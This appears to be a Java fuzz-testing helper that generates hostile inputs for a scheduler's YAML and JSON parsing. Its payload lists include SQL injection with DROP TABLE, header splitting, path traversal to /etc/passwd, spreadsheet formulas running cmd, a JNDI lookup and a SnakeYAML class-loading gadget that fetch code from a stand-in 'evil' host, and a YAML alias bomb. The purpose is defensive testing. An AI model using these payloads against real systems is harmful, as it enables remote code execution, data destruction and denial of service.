package dev.platform.scheduler.reliability;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Tuple;
import net.jqwik.api.sessions.JqwikSession;
import org.yaml.snakeyaml.DumperOptions;
import org.yaml.snakeyaml.LoaderOptions;
import org.yaml.snakeyaml.Yaml;
import org.yaml.snakeyaml.constructor.SafeConstructor;
import org.yaml.snakeyaml.error.YAMLException;
import org.yaml.snakeyaml.representer.Representer;
import tools.jackson.databind.json.JsonMapper;

import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.StreamSupport;

/**
 * Hostile values and documents drawn from jqwik's generators, reproducible from one seed:
 * {@code -Dplatform.fuzz.seed=<n>} replays a run, {@code -Dplatform.fuzz.scale=<n>} multiplies every
 * fuzz test's number of tries (1 in {@code ./mvnw verify}; the {@code reliability-large} profile sets 20).
 */
final class HostileInput implements AutoCloseable {

    static final long SEED = Long.getLong("platform.fuzz.seed", new Random().nextLong());
    static final int SCALE = Integer.getInteger("platform.fuzz.scale", 1);

    /** SQL, header splitting, path traversal, spreadsheet formulas, template and lookup injections. */
    static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE workload; --",
            "x\" OR 1=1 --", "1; SELECT pg_sleep(10)", "$$; DROP TABLE workload; $$", "a') UNION SELECT 1,2,3 --",
            "a\r\nX-Injected: yes", "a\nSet-Cookie: session=stolen", "../../../etc/passwd", "..%2f..%2fadmin",
            "=HYPERLINK(\"http://evil\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'",
            "${jndi:ldap://evil/a}", "{{7*7}}", "<script>alert(1)</script>", "\u0000", "NaN", "-0", "\ud800",
            "\u202egnp.exe", "\uFEFFname", "a".repeat(300), "team-a", "default", "cq", "lq");

    private static final List<String> QUANTITIES = List.of("9999999999999999999999999999999999999999e999999",
            "1.5e2147483647", "1e-2147483648", "9223372036854775", "9223372036854776", "-1", "1Ei", "8Pi", "0.1n",
            "1e-400", "1e18", "0", "32", "500m", "3Gi", "1.2.3", "12x", "1" + "0".repeat(70), ".5", "+4", "0x10");

    private static final JsonMapper JSON = JsonMapper.builder().build();

    private final Random random;

    /** Opens a jqwik session, which its generators need outside a property; {@link #close()} ends it. */
    HostileInput(String stream) {
        this.random = new Random(SEED ^ stream.hashCode());
        JqwikSession.start(Long.toString(SEED ^ stream.hashCode()));
    }

    @Override
    public void close() {
        JqwikSession.finish();
    }

    static int tries(int base) {
        return base * SCALE;
    }

    <T> T sample(Arbitrary<T> arbitrary) {
        return arbitrary.generator(1000).next(random).value();
    }

    int nextInt(int bound) {
        return random.nextInt(bound);
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** Any text: injections, every code point including control characters and lone surrogates, long runs. */
    String string() {
        return sample(Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.of(INJECTIONS)),
                Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(2, Arbitraries.strings().withChars("aZ09-._/é中😀\u202e\u0000\r\n\t'\"\\%$&;=+@#?")
                        .ofMaxLength(30)),
                Tuple.of(1, Arbitraries.strings().withCharRange('a', 'z').ofMinLength(200).ofMaxLength(5000))));
    }

    String quantity() {
        return sample(Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of(QUANTITIES)),
                Tuple.of(2, Arbitraries.bigIntegers().between(BigInteger.ZERO, BigInteger.TEN.pow(40))
                        .map(BigInteger::toString)),
                Tuple.of(2, Arbitraries.integers().between(-3, 99999).flatMap(n -> Arbitraries.of("", "m", "n", "k",
                        "Ki", "Mi", "Gi", "Ti", "Pi", "Ei", "E", "P", "e5", "e-5", "e999", "e-999999999999")
                        .map(suffix -> n + suffix)))));
    }

    Object number() {
        return sample(Arbitraries.oneOf(
                Arbitraries.integers().map(Object.class::cast),
                Arbitraries.longs().map(Object.class::cast),
                Arbitraries.bigIntegers().between(BigInteger.TEN.pow(18).negate(), BigInteger.TEN.pow(60))
                        .map(Object.class::cast),
                Arbitraries.doubles().map(Object.class::cast),
                Arbitraries.of(Double.NaN, Double.POSITIVE_INFINITY, Double.NEGATIVE_INFINITY, 1e308, -0.0,
                        Long.MAX_VALUE, Integer.MIN_VALUE).map(Object.class::cast)));
    }

    /** A value of any shape, nested up to {@code depth}. */
    Object value(int depth) {
        int kind = random.nextInt(depth > 0 ? 9 : 6);
        return switch (kind) {
            case 0, 1 -> string();
            case 2 -> quantity();
            case 3 -> number();
            case 4 -> random.nextBoolean();
            case 5 -> null;
            case 6 -> nested(random.nextInt(100) + 1);
            case 7 -> {
                List<Object> list = new ArrayList<>();
                for (int i = random.nextInt(4); i > 0; i--) {
                    list.add(value(depth - 1));
                }
                yield list;
            }
            default -> {
                Map<String, Object> map = new LinkedHashMap<>();
                for (int i = random.nextInt(4); i > 0; i--) {
                    map.put(string(), value(depth - 1));
                }
                yield map;
            }
        };
    }

    private Object nested(int depth) {
        Object inner = "deep";
        for (int i = 0; i < depth; i++) {
            inner = random.nextBoolean() ? new ArrayList<>(List.of(inner)) : new LinkedHashMap<>(Map.of("a", inner));
        }
        return inner;
    }

    /** A copy of {@code document} with one to three fields replaced, removed, added or nested deeply. */
    @SuppressWarnings("unchecked")
    Map<String, Object> mutate(Map<String, Object> document) {
        Map<String, Object> copy = (Map<String, Object>) deepCopy(document);
        for (int n = 1 + random.nextInt(3); n > 0; n--) {
            List<Slot> slots = new ArrayList<>();
            collect(copy, slots);
            Slot slot = pick(slots);
            switch (random.nextInt(5)) {
                case 0 -> slot.set(value(2));
                case 1 -> slot.set(slot.looksLikeQuantity() ? quantity() : string());
                case 2 -> slot.remove();
                case 3 -> slot.set(nested(random.nextInt(200) + 1));
                default -> {
                    if (slot.container() instanceof Map<?, ?> map) {
                        ((Map<String, Object>) map).put(string(), value(1));
                    } else {
                        slot.set(number());
                    }
                }
            }
        }
        return copy;
    }

    /** Where a value sits: a key of a map or an index of a list. */
    private record Slot(Object container, Object key) {
        @SuppressWarnings("unchecked")
        void set(Object value) {
            if (container instanceof Map<?, ?> map) {
                ((Map<Object, Object>) map).put(key, value);
            } else {
                ((List<Object>) container).set((Integer) key, value);
            }
        }

        void remove() {
            if (container instanceof Map<?, ?> map) {
                map.remove(key);
            } else {
                ((List<?>) container).remove((int) (Integer) key);
            }
        }

        boolean looksLikeQuantity() {
            return key instanceof String k && (k.endsWith("Quota") || k.endsWith("Limit") || k.equals("cpu")
                    || k.equals("memory") || k.equals("google.com/tpu") || k.equals("weight"));
        }
    }

    private static void collect(Object node, List<Slot> slots) {
        if (node instanceof Map<?, ?> map) {
            for (Object key : new ArrayList<>(map.keySet())) {
                slots.add(new Slot(map, key));
                collect(map.get(key), slots);
            }
        } else if (node instanceof List<?> list) {
            for (int i = 0; i < list.size(); i++) {
                slots.add(new Slot(list, i));
                collect(list.get(i), slots);
            }
        }
    }

    private static Object deepCopy(Object node) {
        if (node instanceof Map<?, ?> map) {
            Map<Object, Object> copy = new LinkedHashMap<>();
            map.forEach((k, v) -> copy.put(k, deepCopy(v)));
            return copy;
        }
        if (node instanceof List<?> list) {
            return list.stream().map(HostileInput::deepCopy).collect(Collectors.toCollection(ArrayList::new));
        }
        return node;
    }

    static List<Map<String, Object>> documents(String yaml) {
        Yaml reader = new Yaml(new SafeConstructor(new LoaderOptions()));
        List<Map<String, Object>> documents = new ArrayList<>();
        for (Object document : StreamSupport.stream(reader.loadAll(yaml).spliterator(), false).toList()) {
            if (document instanceof Map<?, ?> map) {
                @SuppressWarnings("unchecked")
                Map<String, Object> typed = (Map<String, Object>) map;
                documents.add(typed);
            }
        }
        return documents;
    }

    static String yaml(List<Map<String, Object>> documents) {
        DumperOptions options = new DumperOptions();
        options.setAllowUnicode(true);
        Yaml writer = new Yaml(new Representer(options), options);
        try {
            return documents.stream().map(writer::dump).collect(Collectors.joining("---\n"));
        } catch (YAMLException unrepresentable) {
            // a lone surrogate has no YAML form; JSON, which YAML reads too, escapes it
            return json(documents);
        }
    }

    static String json(List<Map<String, Object>> documents) {
        return JSON.writeValueAsString(documents.size() == 1 ? documents.get(0) : documents);
    }

    /** Hostile YAML no serializer would write: repeated keys, an alias bomb, nesting past any limit, tags. */
    String malformedYaml(String valid) {
        return switch (random.nextInt(7)) {
            case 0 -> valid.replaceFirst("metadata:", "kind: ResourceFlavor\nmetadata:");
            case 1 -> valid + "\nmetadata: {name: duplicate}\n";
            case 2 -> aliasBomb();
            case 3 -> "spec: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n";
            case 4 -> "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil\"]]]]";
            case 5 -> "\uFEFF" + valid.replace("  ", "\t");
            default -> valid.substring(0, random.nextInt(Math.max(1, valid.length())));
        };
    }

    private static String aliasBomb() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char previous = 'a';
        for (char c = 'b'; c <= 'j'; c++) {
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            yaml.append("]\n");
            previous = c;
        }
        return yaml.toString();
    }

    /** A path segment as a client would percent-encode it, so that the request can be sent at all. */
    static String segment(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
